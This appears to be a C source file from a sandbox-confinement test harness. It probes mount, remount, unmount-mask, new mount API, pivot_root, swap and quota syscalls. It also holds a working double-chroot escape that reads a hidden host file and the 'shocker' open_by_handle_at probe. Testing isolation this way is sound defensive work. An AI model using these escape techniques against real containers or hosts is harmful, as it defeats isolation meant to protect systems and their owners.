/* The mount calls, old and new, and the ways round a root directory (28, 3, 4). */
#include <linux/mount.h>
#include <sys/mount.h>

#include "attack.h"

#ifndef SYS_open_tree
#define SYS_open_tree 428
#define SYS_move_mount 429
#define SYS_fsopen 430
#define SYS_fsconfig 431
#define SYS_fsmount 432
#define SYS_fspick 433
#endif
#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#define EMPTY_PATH 0x1000

/* A fresh empty directory in the scratch space. */
static const char *scratch(void)
{
    static char dir[64];
    snprintf(dir, sizeof dir, "/tmp/attack-mnt-%d", getpid());
    if (mkdir(dir, 0700) != 0 && errno != EEXIST)
        _exit(broken("mkdir %s: %s", dir, strerror(errno)));
    return dir;
}

static int finish(const char *what, const char *dir, int result)
{
    int error = errno;
    if (result == 0)
        umount2(dir, MNT_DETACH);
    rmdir(dir);
    errno = error;
    return by_result(what, result);
}

static int mount_tmpfs(void)
{
    const char *dir = scratch();
    return finish("mount tmpfs", dir, mount("none", dir, "tmpfs", 0, NULL));
}

static int mount_proc(void)
{
    const char *dir = scratch();
    return finish("mount proc", dir, mount("none", dir, "proc", 0, NULL));
}

static int mount_sysfs(void)
{
    const char *dir = scratch();
    return finish("mount sysfs", dir, mount("none", dir, "sysfs", 0, NULL));
}

static int mount_overlay(void)
{
    const char *dir = scratch();
    return finish("mount overlay", dir,
                  mount("none", dir, "overlay", 0, "lowerdir=/usr:/etc"));
}

static int mount_debugfs(void)
{
    const char *dir = scratch();
    return finish("mount debugfs", dir, mount("none", dir, "debugfs", 0, NULL));
}

static int mount_bind(void)
{
    const char *dir = scratch();
    return finish("bind", dir, mount("/usr", dir, NULL, MS_BIND | MS_REC, NULL));
}

static int remount_writable(void)
{
    static const char *const places[] = {"/usr", "/etc", "/", "/proc", "/sys"};
    for (size_t i = 0; i < COUNT(places); i++)
        if (mount("none", places[i], NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
            return succeeded("%s was remounted writable", places[i]);
    return blocked("remount");
}

static int remount_propagation(void)
{
    return by_result("shared propagation", mount("none", "/", NULL, MS_REC | MS_SHARED, NULL));
}

/* Masks are mounts: without them what they cover is back. */
static int umount_masks(void)
{
    static char text[65536];
    if (slurp("/proc/self/mounts", text, sizeof text) < 0)
        return blocked("/proc/self/mounts");
    errno = ENOENT;
    for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n")) {
        char dir[256];
        if (sscanf(line, "%*s %255s", dir) == 1 && strcmp(dir, "/") != 0 &&
            umount2(dir, MNT_DETACH) == 0)
            return succeeded("%s was unmounted", dir);
    }
    return blocked("umount2");
}

/* CVE-2022-0185 lived behind this door. */
static int fsopen_tmpfs(void)
{
    return by_result("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
}

static int fspick_root(void)
{
    return by_result("fspick", syscall(SYS_fspick, -100, "/", 0));
}

static int fsopen_whole(void)
{
    int fs = (int)syscall(SYS_fsopen, "tmpfs", 0);
    if (fs < 0)
        return blocked("fsopen");
    if (syscall(SYS_fsconfig, fs, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0) != 0)
        return blocked("fsconfig");
    int tree = (int)syscall(SYS_fsmount, fs, 0, 0);
    if (tree < 0)
        return blocked("fsmount");
    const char *dir = scratch();
    int done = (int)syscall(SYS_move_mount, tree, "", -100, dir, 4 /* F_EMPTY_PATH */);
    return finish("move_mount", dir, done);
}

static int open_tree_clone(void)
{
    return by_result("open_tree", syscall(SYS_open_tree, -100, "/", OPEN_TREE_CLONE));
}

static int setattr_writable(void)
{
    struct mount_attr attr = {.attr_clr = 1 /* MOUNT_ATTR_RDONLY */};
    return by_result("mount_setattr",
                     syscall(SYS_mount_setattr, -100, "/", EMPTY_PATH, &attr, sizeof attr));
}

/* Over /tmp itself, so that nothing is left behind where it works. */
static int pivot(void)
{
    if (mount("none", "/tmp", "tmpfs", 0, NULL) == 0 && chdir("/tmp") != 0)
        return broken("chdir: %s", strerror(errno));
    return by_result("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
}

static int read_secret(void)
{
    int fd = open(must_arg("hidden"), O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    int held = holds_secret(fd);
    close(fd);
    return held;
}

/* A directory kept open across chroot is outside it: up from there, and in. */
static int chroot_twice(void)
{
    const char *dir = scratch();
    if (chroot(dir) != 0) {
        int error = errno;
        rmdir(dir);
        errno = error;
        return blocked("chroot");
    }
    for (int up = 0; up < 64; up++)
        if (chdir("..") != 0)
            return blocked("chdir");
    if (chroot(".") != 0)
        return blocked("second chroot");
    rmdir(dir);
    return read_secret() ? succeeded("out of the root directory")
                         : blocked_because("the host's file is not there");
}

static int swap_on(void)
{
    return by_permission("swapon", syscall(SYS_swapon, "/nonexistent-swap", 0));
}

static int swap_off(void)
{
    return by_permission("swapoff", syscall(SYS_swapoff, "/nonexistent-swap"));
}

static int quota(void)
{
    /* Q_GETFMT of nothing: its own refusal is not EPERM. */
    return by_permission("quotactl", syscall(SYS_quotactl, 0x80000400u, "/nonexistent", 0, NULL));
}

static int handle_of(void)
{
    struct {
        struct file_handle head;
        unsigned char room[128];
    } handle = {.head = {.handle_bytes = 128}};
    int mount_id;
    return by_result("name_to_handle_at",
                     name_to_handle_at(AT_FDCWD, "/usr", &handle.head, &mount_id, 0));
}

/* The "shocker": a guessed handle of the root inode of whatever disk is below. */
static int open_handle(void)
{
    struct {
        struct file_handle head;
        uint32_t inode[2];
    } handle = {.head = {.handle_bytes = 8, .handle_type = 1}, .inode = {2, 0}};
    int at = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (at < 0)
        return broken("/usr: %s", strerror(errno));
    int fd = open_by_handle_at(at, &handle.head, O_RDONLY | O_DIRECTORY);
    int error = errno;
    close(at);
    errno = error;
    if (fd < 0 && errno == ESTALE)
        return succeeded("open_by_handle_at looked for the handle (ESTALE)");
    return by_result("open_by_handle_at", fd);
}

const struct attack mount_attacks[] = {
    {"mount_tmpfs", mount_tmpfs},
    {"mount_proc", mount_proc},
    {"mount_sysfs", mount_sysfs},
    {"mount_overlay", mount_overlay},
    {"mount_debugfs", mount_debugfs},
    {"mount_bind", mount_bind},
    {"remount_writable", remount_writable},
    {"remount_propagation", remount_propagation},
    {"umount_masks", umount_masks},
    {"fsopen", fsopen_tmpfs},
    {"fspick", fspick_root},
    {"fsopen_whole", fsopen_whole},
    {"open_tree", open_tree_clone},
    {"mount_setattr", setattr_writable},
    {"pivot_root", pivot},
    {"chroot_twice", chroot_twice},
    {"swapon", swap_on},
    {"swapoff", swap_off},
    {"quotactl", quota},
    {"name_to_handle", handle_of},
    {"open_by_handle", open_handle},
    {NULL, NULL},
};
